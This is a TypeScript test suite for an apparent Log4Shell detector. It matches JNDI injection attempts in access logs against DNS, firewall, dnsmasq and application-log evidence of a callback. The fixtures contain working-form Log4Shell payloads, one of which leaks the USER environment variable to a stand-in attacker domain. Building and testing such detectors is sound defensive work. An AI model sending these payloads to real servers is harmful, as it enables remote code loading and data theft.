import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { type Coming, joinedLive, joinedWith, saidOf } from '../../../test/kit/joining.ts'
import type { AttackFinding } from '../../core/index.ts'

const clock = (seconds: number): string => new Date(seconds * 1_000).toISOString().slice(11, 19)
const noon = 12 * 3_600

const access = (payload: string, at = noon): Coming => ({
  source: 'access.log',
  line: `203.0.113.83 - - [10/Dec/2021:${clock(at)} +0000] "GET / HTTP/1.1" 200 612 "-" "${payload}"\n`,
})
const query = (name: string, at = noon + 1): Coming => ({
  source: 'named.log',
  line: `10-Dec-2021 ${clock(at)}.416 queries: info: client @0x7f2a40 10.0.0.5#53211 (${name}): query: ${name} IN A +E(0)K (10.0.0.53)\n`,
})
const packet = (to: string, port: number, at = noon + 1): Coming => ({
  source: 'kern.log',
  line: `Dec 10 ${clock(at)} fw kernel: [1.5] OUT: IN= OUT=eth0 SRC=10.0.0.5 DST=${to} LEN=60 PROTO=TCP SPT=40000 DPT=${port} SYN\n`,
})
const reply = (name: string, address: string): Coming => ({
  source: 'dnsmasq.log',
  line: `dnsmasq[812]: reply ${name} is ${address}\n`,
})
const warning = (name: string, at = noon + 1): Coming => ({
  source: 'app.log',
  line: `2021-12-10 ${clock(at)},412 main WARN Error looking up JNDI resource [ldap://${name}]. javax.naming.CommunicationException\n`,
})

const plain = access('${jndi:ldap://x.evil.example:1389/a}')
const evaluated = access('${jndi:ldap://${env:USER}.evil.example:1389/a}')

function outcomesOf(findings: readonly AttackFinding[]): readonly string[] {
  return findings.filter(({ verdict }) => verdict === 'fires').map(({ outcome }) => outcome)
}

describe('what was seen of an attack', () => {
  test.each<readonly [string, readonly Coming[], string]>([
    ['after it', [plain, query('x.evil.example')], 'likely'],
    ['before it', [query('x.evil.example'), plain], 'likely'],
    ['before it, by evaluation alone', [query('root.evil.example'), evaluated], 'callback-seen'],
    ['by a trace in an application', [plain, warning('x.evil.example:1389/a')], 'likely'],
    ['by a trace that came before', [warning('x.evil.example:1389/a'), plain], 'likely'],
    [
      'at an address that came first',
      [packet('198.51.100.66', 1_389), plain, reply('x.evil.example', '198.51.100.66')],
      'likely',
    ],
    [
      'at an address that comes last',
      [plain, reply('x.evil.example', '198.51.100.66'), packet('198.51.100.66', 1_389)],
      'likely',
    ],
    ['too late', [plain, query('x.evil.example', noon + 700)], 'attempt'],
    ['too early', [query('x.evil.example', noon - 61), plain], 'attempt'],
    ['of another name', [plain, query('y.evil.example')], 'attempt'],
    ['of another port', [plain, reply('x.evil.example', '198.51.100.66'), packet('198.51.100.66', 443)], 'attempt'],
  ])('%s', (_case, lines, outcome) => {
    expect(outcomesOf(joinedLive(lines).findings)).toEqual([outcome])
  })

  test('is given again when it goes further, and not for more of the same', () => {
    const lines = [evaluated, packet('198.51.100.66', 1_389), reply('root.evil.example', '198.51.100.66')]
    const { findings, times } = joinedLive([...lines, query('root.evil.example'), query('root.evil.example', noon + 2)])

    expect(outcomesOf(findings)).toEqual(['callback-seen'])
    expect(times).toEqual([2])
  })

  test('counts once, however often the same log is searched', () => {
    const again = access('${jndi:ldap://x.evil.example:1389/b}', noon + 2)
    const other = access('${jndi:ldap://z.evil.example:1389/b}', noon + 2)
    const { findings } = joinedLive([plain, query('x.evil.example'), other, again])

    expect(saidOf(findings.find(({ lookup }) => lookup.path === 'b' && lookup.host === 'x.evil.example'))).toEqual([
      '10.0.0.5 asked for x.evil.example, 1 s before it was logged (clocks differ, or it was logged when it ended)',
    ])
  })
})

test('attacks and what came of them are joined the same, in whatever order they come', () => {
  const hosts = ['a.one.example', 'b.one.example', 'two.example']
  const time = fc.integer({ min: noon, max: noon + 1_500 })
  const host = fc.constantFrom(...hosts)
  const address = fc.constantFrom('198.51.100.1', '198.51.100.2')
  const port = fc.constantFrom(389, 1_389)
  const attack = fc.oneof(
    fc.tuple(host, port, time).map(([name, to, at]) => access(`\${jndi:ldap://${name}:${to}/x}`, at)),
    fc.tuple(address, port, time).map(([to, at, when]) => access(`\${jndi:ldap://${to}:${at}/x}`, when)),
    time.map((at) => access('${jndi:ldap://${env:USER}.open.example/x}', at)),
  )
  const witness = fc.oneof(
    fc
      .tuple(fc.constantFrom(...hosts, 'root.open.example', 'other.example'), time)
      .map(([name, at]) => query(name, at)),
    fc.tuple(address, port, time).map(([to, at, when]) => packet(to, at, when)),
    fc.tuple(host, address).map(([name, to]) => reply(name, to)),
    fc.tuple(host, port, time).map(([name, to, at]) => warning(`${name}:${to}/x`, at)),
  )
  const lines = fc.uniqueArray(fc.oneof(attack, witness), { maxLength: 25, selector: ({ line }) => line })
  const told = (findings: readonly AttackFinding[]): readonly string[] =>
    findings
      .filter(({ verdict }) => verdict === 'fires')
      .map(({ when, lookup, outcome }) => `${when} ${lookup.meaning} ${outcome}`)
      .toSorted()
  fc.assert(
    fc.property(lines, (coming) => {
      const of = (source: string): string =>
        coming.flatMap((each) => (each.source === source ? [each.line] : [])).join('')
      const sources = ['named.log', 'kern.log', 'dnsmasq.log', 'app.log']
      const twice = joinedWith(of('access.log'), Object.fromEntries(sources.map((each) => [each, of(each)])))

      expect(told(joinedLive(coming).findings)).toEqual(told(twice.findings))
    }),
    { numRuns: 300 },
  )
})

describe('memory', () => {
  test('attacks are let go of when nothing can come of them any more', () => {
    let now = 0
    const { joins } = joinedLive([plain], 600_000, () => now)
    now = 660_001
    expect([...joins.leaving()]).toEqual([])
    now = 2 * 660_001 + 1
    const [left, ...others] = joins.leaving()

    expect(left?.lookup.host).toBe('x.evil.example')
    expect(others).toEqual([])
    expect([...joins.rest(), ...joins.notes()]).toEqual([])
    expect(joins.names().all).toEqual(new Set())
  })

  test('of more attacks than can be kept the oldest go, and that is told', () => {
    const [attack] = joinedLive([plain]).findings
    if (attack === undefined) throw new Error('it was found')
    const { joins } = joinedLive([])
    let left = 0
    for (let i = 0; i < 15_001; i++) left += [...joins.take(attack)].length

    expect(left).toBe(10_000)
    expect([...joins.rest()]).toHaveLength(5_001)
    expect([...joins.notes()]).toEqual([
      '10,000 attacks were watched for less than the window, because so many came at once',
    ])
  })
})
